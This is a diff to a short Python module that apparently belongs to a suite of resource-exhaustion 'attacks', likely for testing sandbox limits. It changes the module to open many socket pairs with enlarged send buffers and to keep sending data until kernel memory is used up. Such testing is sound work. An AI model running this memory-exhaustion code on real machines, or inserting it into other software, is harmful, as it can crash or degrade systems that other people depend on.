@@ -1,20 +1,22 @@
-"""Takes the kernel's memory in pairs of sockets with buffers as large as they can be (here: 20)."""
+"""Takes the kernel's memory in pairs of sockets, with buffers as large as they can be (here: 40,000 times 1 KB)."""
 
+import contextlib
 import socket
 
-from attack import attack, kept
+from attack import attack, held
 
 
 @attack
 def _():
-    for _ in range(20):
+    sent = 0
+    while sent < 40_000:
         pair = socket.socketpair()
-        kept.extend(pair)
+        held.extend(pair)
         for end in pair:
-            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
+            with contextlib.suppress(OSError):
+                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
             end.setblocking(False)
-            try:
-                while end.send(bytes(1 << 16)):
-                    pass
-            except BlockingIOError:
-                continue
+            with contextlib.suppress(BlockingIOError):
+                while sent < 40_000:
+                    end.send(bytes(1 << 10))
+                    sent += 1
